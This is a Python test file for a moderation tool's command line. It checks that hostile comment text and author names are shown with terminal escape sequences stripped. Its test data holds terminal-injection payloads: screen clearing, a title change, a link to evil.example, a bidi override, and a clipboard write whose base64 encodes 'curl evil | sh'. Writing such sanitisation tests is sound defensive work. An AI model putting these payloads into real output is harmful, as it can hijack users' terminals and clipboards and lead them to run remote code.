"""Hostile names and texts reach the terminal only as text: `queue list`, `queue show` and the run
summary strip control sequences and show bidi and invisible characters in names; JSON stays exact."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from moderation.cli import cli
from tests.conftest import EXAMPLES, seed_review_queue, write_config

CLEAR_SCREEN = "\x1b[2J\x1b[H"
SET_TITLE = "\x1b]0;pwned\x07"
HYPERLINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
WRITE_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
EIGHT_BIT_CSI = "\x9b2J"
HOSTILE_AUTHOR = f"\u202egrebdniL eeL{SET_TITLE}"
HOSTILE_TEXT = f"Slaven, you're an idiot! {CLEAR_SCREEN}no items\r{WRITE_CLIPBOARD}{HYPERLINK}{EIGHT_BIT_CSI}\u0007"
RAW = ("\x1b", "\x9b", "\x07", "\r", "\u202e")


def _hostile_thread(tmp_path: Path) -> Path:
    """The example thread with c6 (the attack on Slaven, which is queued) written by an attacker."""
    lines = []
    for line in (EXAMPLES / "seed_thread.jsonl").read_text(encoding="utf-8").splitlines():
        record = json.loads(line)
        if record["id"] == "c6":
            record["author"], record["text"] = HOSTILE_AUTHOR, HOSTILE_TEXT
        if record["id"] == "c7":
            record["author"] = "Doug\u200blas"
        lines.append(json.dumps(record))
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def config(sqlite_url: str, tmp_path: Path) -> Path:
    seed_review_queue(sqlite_url, _hostile_thread(tmp_path))
    return write_config(tmp_path / "c.toml", sqlite_url)


def _run(*args: str, config: Path) -> Result:
    result = CliRunner().invoke(cli, [*args, "--config", str(config)])
    assert result.exit_code == 0, result.output
    return result


def _assert_nothing_raw(output: str) -> None:
    for char in RAW:
        assert char not in output, f"{char!r} reached the terminal"
    assert "]52;" not in output and "]0;" not in output and "[2J" not in output


def _c6_item(config: Path) -> int:
    listed = json.loads(_run("queue", "list", "--format", "json", config=config).output)
    return next(item["id"] for item in listed if item["comment_id"] == "c6")


def test_queue_list_strips_escape_sequences_and_shows_the_bidi_override(config: Path) -> None:
    output = _run("queue", "list", config=config).output
    _assert_nothing_raw(output)
    assert "[examples/c6] <U+202E>grebdniL eeL: " in output
    assert "no items" in output and "Slaven, you're an idiot!" in output  # the words stay, as text


def test_queue_show_strips_escape_sequences_in_the_card_thread_and_history(config: Path) -> None:
    output = _run("queue", "show", str(_c6_item(config)), config=config).output
    _assert_nothing_raw(output)
    assert "[examples/c6] <U+202E>grebdniL eeL on post-belenko" in output
    assert "c7 Doug<U+200B>las -> <U+202E>grebdniL eeL" in output
    assert "<U+202E>grebdniL eeL: 1 comments" in output


def test_queue_json_output_keeps_names_and_texts_exact(config: Path) -> None:
    listed = json.loads(_run("queue", "list", "--format", "json", config=config).output)
    c6 = next(item for item in listed if item["comment_id"] == "c6")
    assert (c6["author"], c6["text"]) == (HOSTILE_AUTHOR, HOSTILE_TEXT)
    shown = json.loads(_run("queue", "show", str(c6["id"]), "--format", "json", config=config).output)
    assert shown["item"]["author"] == HOSTILE_AUTHOR


@pytest.mark.usefixtures("prefect_harness")
def test_run_summary_strips_escape_sequences_from_flagged_comments(tmp_path: Path, sqlite_url: str) -> None:
    sources = f'[[sources]]\nname = "examples"\nkind = "jsonl"\npath = "{_hostile_thread(tmp_path)}"\n'
    config = write_config(tmp_path / "c.toml", sqlite_url, '[scoring]\nscorer = "lexicon"', sources=sources)
    output = _run("run", config=config).output
    _assert_nothing_raw(output)
    assert "[c6] <U+202E>grebdniL eeL: " in output
